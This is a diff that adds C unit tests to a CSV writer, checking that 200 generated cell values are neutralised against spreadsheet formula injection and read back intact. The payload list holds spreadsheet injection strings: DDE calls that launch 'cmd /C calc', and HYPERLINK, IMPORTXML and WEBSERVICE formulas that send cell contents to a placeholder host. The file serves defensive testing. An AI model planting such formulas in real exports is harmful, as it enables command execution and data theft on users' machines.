@@ -499,6 +499,98 @@ test_formulas(void **state)
 	written(NULL, "");
 }
 
+/* Would a spreadsheet compute this cell?  By itself, not by what csvlist.c
+ * thinks. */
+static bool
+computed(const char *cell)
+{
+	static const char *const sign[] = { "=", "+", "-", "@", "\t", "\r",
+		"＝", "＋", "－", "＠" };
+	char *end;
+	size_t i;
+
+	strtod(cell, &end);
+	if (end > cell && !*end && *cell != '+')
+		return false;
+	while (*cell == ' ' || *cell == '\n')
+		cell++;
+	for (i = 0; i < sizeof sign / sizeof *sign; i++)
+		if (strncmp(cell, sign[i], strlen(sign[i])) == 0)
+			return true;
+	return false;
+}
+
+/* The second cell of the second line, as a spreadsheet cuts it. */
+static void
+cut_cell(const char *made, char *out)
+{
+	const char *p = strstr(made, "\n1;") + 3;
+	bool inside = *p == '"';
+
+	for (p += inside; *p; p++) {
+		if (inside && *p == '"' && *++p != '"')
+			break;
+		if (!inside && strchr(";\n", *p))
+			break;
+		*out++ = *p;
+	}
+	*out = '\0';
+	assert_string_equal(p, "\n");
+}
+
+static void
+try_payload(const char *text)
+{
+	char *made = NULL, cell[400];
+	size_t size;
+	struct csvlist *l;
+	json_t *r;
+	FILE *f = open_memstream(&made, &size);
+
+	fputs("id;Prénom\n1;", f);
+	csvlist_cell(f, text, ';');
+	putc('\n', f);
+	fclose(f);
+	cut_cell(made, cell);
+	if (computed(cell))
+		fail_msg("%s is computed", cell);
+	assert_int_equal(csvlist_open(file_of(made, size), "f", known, NULL,
+		&l), E_OK);
+	assert_int_equal(csvlist_next(l, &r), E_OK);
+	assert_string_equal(json_string_value(json_object_get(r, "Prénom")),
+		text);
+	json_decref(r);
+	csvlist_free(l);
+	free(made);
+}
+
+/* 200 payloads: 10 starts, 20 bodies. */
+static void
+test_payloads(void **state)
+{
+	static const char *const start[] = { "=", "+", "-", "@", "\t=", "\r=",
+		"＝", " =", "'=", "\n@" };
+	static const char *const body[] = { "1+1", "cmd|' /C calc'!A0",
+		"HYPERLINK(\"http://x/?\"&A1;\"ici\")", "SUM(1;2)", "A1",
+		"IMPORTXML(CONCAT(\"http://x/\";A1);\"//a\")", "-2+3",
+		"WEBSERVICE(\"http://x\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
+		"10+cmd|'/C x'!A", "1\n=2", "\"\";=1", "'", "=", "é",
+		"33144383838", "2,5*3", "", "0x1F", "1,2;3" };
+	int tried = 0;
+	size_t i, j;
+
+	(void)state;
+	for (i = 0; i < 10; i++)
+		for (j = 0; j < 20; j++, tried++) {
+			char text[200];
+
+			snprintf(text, sizeof text, "%s%s", start[i], body[j]);
+			try_payload(text);
+		}
+	print_message("ok - %d payloads, no formula, all read back\n", tried);
+	assert_int_equal(tried, 200);
+}
+
 int
 main(void)
 {
@@ -510,6 +602,7 @@ main(void)
 		cmocka_unit_test(test_random),
 		cmocka_unit_test(test_round_trip),
 		cmocka_unit_test(test_formulas),
+		cmocka_unit_test(test_payloads),
 	};
 
 	clock_fix("2026-11-25T09:00");
